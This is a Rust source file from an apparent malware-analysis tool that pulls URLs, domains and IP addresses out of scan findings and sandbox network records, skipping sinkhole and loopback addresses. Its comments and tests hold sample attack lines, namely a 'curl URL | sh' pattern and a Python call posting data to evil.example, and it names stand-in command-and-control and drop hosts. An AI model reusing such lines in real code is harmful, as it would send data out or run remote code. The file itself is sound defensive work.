//! Network indicators of one report: the domains, URLs and IP addresses a package
//! reached for, from the findings' evidence (static: URLs in code; dynamic: the
//! event a behaviour rule cited) and from what the sandbox recorded.
//!
//! Addresses that only exist inside the sandbox are not indicators: the sinkhole
//! hands every DNS name its own address in 198.18.0.0/15, and the resolver, loopback
//! and unspecified addresses are the sandbox's own. A name stays an indicator
//! through the name itself.

use std::collections::BTreeSet;
use std::net::IpAddr;

use ossprey_model::Report;
use ossprey_model::dynamic::PhaseReport;

/// The indicators of one report, sorted and deduplicated.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Indicators {
    pub urls: BTreeSet<String>,
    pub domains: BTreeSet<String>,
    pub ips: BTreeSet<String>,
}

impl Indicators {
    /// Everything `report` points at.
    pub fn of(report: &Report) -> Self {
        let mut out = Self::default();
        for f in &report.findings {
            out.add_text(&f.message);
            if let Some(snippet) = &f.evidence.snippet {
                out.add_text(snippet);
            }
            if let Some(event) = &f.evidence.event {
                out.add_json(event);
            }
        }
        if let Some(dynamic) = &report.dynamic {
            for phase in [&dynamic.install, &dynamic.import, &dynamic.execute]
                .into_iter()
                .flatten()
            {
                out.add_phase(phase);
            }
        }
        // Hosts of URLs are indicators too; IP hosts go with the IPs.
        let hosts: Vec<String> = out.urls.iter().filter_map(|u| host_of(u)).collect();
        for host in hosts {
            out.add_host(&host);
        }
        out
    }

    fn add_phase(&mut self, phase: &PhaseReport) {
        let resolvers: BTreeSet<&str> = phase
            .network
            .dns
            .iter()
            .map(|q| q.resolver.as_str())
            .collect();
        for q in &phase.network.dns {
            self.add_domain(&q.hostname);
        }
        // Download-and-run shapes put the URL on a command line (`curl URL | sh`).
        for e in phase.processes.iter().flat_map(|p| &p.execs) {
            for arg in &e.argv {
                self.add_text(arg);
            }
        }
        for s in &phase.sockets {
            if matches!(s.family.as_str(), "inet" | "inet6") && s.op != "bind" {
                if !resolvers.contains(s.address.as_str()) {
                    self.add_ip(&s.address);
                }
                for h in &s.hostnames {
                    self.add_domain(h);
                }
            }
        }
        for c in &phase.network.connections {
            self.add_ip(&c.address);
            if let Some(h) = &c.hostname {
                self.add_domain(h);
            }
            if let Some(sni) = &c.tls_sni {
                self.add_domain(sni);
            }
            for r in &c.http {
                let host = r
                    .host
                    .clone()
                    .or_else(|| c.hostname.clone())
                    .unwrap_or_else(|| match c.port {
                        80 => c.address.clone(),
                        port => format!("{}:{port}", c.address),
                    });
                if r.path.starts_with("http://") || r.path.starts_with("https://") {
                    self.urls.insert(r.path.clone());
                } else {
                    self.urls.insert(format!("http://{host}{}", r.path));
                }
            }
        }
        for d in &phase.network.datagrams {
            if !resolvers.contains(d.address.as_str()) {
                self.add_ip(&d.address);
            }
            if let Some(h) = &d.hostname {
                self.add_domain(h);
            }
        }
    }

    fn add_text(&mut self, text: &str) {
        self.urls.extend(extract_urls(text));
    }

    /// Every string inside a recorded event, searched for URLs.
    fn add_json(&mut self, value: &serde_json::Value) {
        match value {
            serde_json::Value::String(s) => self.add_text(s),
            serde_json::Value::Array(items) => items.iter().for_each(|v| self.add_json(v)),
            serde_json::Value::Object(map) => map.values().for_each(|v| self.add_json(v)),
            _ => {}
        }
    }

    fn add_host(&mut self, host: &str) {
        if host.parse::<IpAddr>().is_ok() {
            self.add_ip(host);
        } else {
            self.add_domain(host);
        }
    }

    fn add_domain(&mut self, name: &str) {
        let name = name.trim_end_matches('.').to_ascii_lowercase();
        // A bare label (`localhost`, a container name) says nothing outside the sandbox.
        if name.contains('.') && name.parse::<IpAddr>().is_err() && name.len() <= 253 {
            self.domains.insert(name);
        }
    }

    fn add_ip(&mut self, address: &str) {
        let Ok(ip) = address.trim_matches(['[', ']']).parse::<IpAddr>() else {
            return;
        };
        if is_sandbox_only(ip) {
            return;
        }
        self.ips.insert(ip.to_string());
    }
}

/// Addresses that never identify anything outside the sandbox.
fn is_sandbox_only(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            let [a, b, ..] = v4.octets();
            v4.is_loopback() || v4.is_unspecified() || (a == 198 && (b == 18 || b == 19))
        }
        IpAddr::V6(v6) => v6.is_loopback() || v6.is_unspecified(),
    }
}

/// `http://` and `https://` URLs in free text.
pub fn extract_urls(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for scheme in ["http://", "https://"] {
        let mut rest = text;
        while let Some(at) = rest.find(scheme) {
            let tail = &rest[at..];
            let end = tail
                .find(|c: char| {
                    c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '>' | '<' | ',')
                })
                .unwrap_or(tail.len());
            if end > scheme.len() {
                out.push(tail[..end].to_owned());
            }
            rest = &tail[end.max(scheme.len())..];
        }
    }
    out
}

/// The host of a URL, lowercased, without port, user info or brackets.
pub fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if let Some(v6) = host.strip_prefix('[') {
        v6.split(']').next()?
    } else {
        host.split(':').next()?
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::testdata;

    #[test]
    fn urls_and_hosts_are_extracted_from_evidence() {
        let urls = extract_urls(
            "requests.post('https://evil.example/x?a=1', data) and http://203.0.113.9:8080/p http://",
        );
        assert_eq!(
            urls,
            ["http://203.0.113.9:8080/p", "https://evil.example/x?a=1"]
        );
        assert_eq!(
            host_of("https://user@Evil.Example:443/x").as_deref(),
            Some("evil.example")
        );
        assert_eq!(
            host_of("http://[2001:db8::1]:80/").as_deref(),
            Some("2001:db8::1")
        );
    }

    #[test]
    fn sinkhole_resolver_and_loopback_addresses_are_not_indicators() {
        let iocs = Indicators::of(&testdata::analysed_malicious());
        // 198.18.0.5/6 are sinkhole answers, 10.0.2.3 the resolver, 0.0.0.0 a bind.
        assert_eq!(iocs.ips.into_iter().collect::<Vec<_>>(), ["203.0.113.7"]);
        assert!(iocs.domains.contains("c2.evil.example"));
        assert!(iocs.domains.contains("drop.evil.example"));
        assert!(iocs.urls.contains("http://drop.evil.example/collect"));
    }

    #[test]
    fn ip_hosts_of_urls_count_as_ips() {
        let mut report = testdata::analysed_malicious();
        report.dynamic = None;
        report.findings[0].evidence.snippet = Some("urlopen('http://192.0.2.44:8000/a')".into());
        let iocs = Indicators::of(&report);
        assert!(iocs.ips.contains("192.0.2.44"));
        assert!(!iocs.domains.iter().any(|d| d.starts_with("192.")));
    }
}
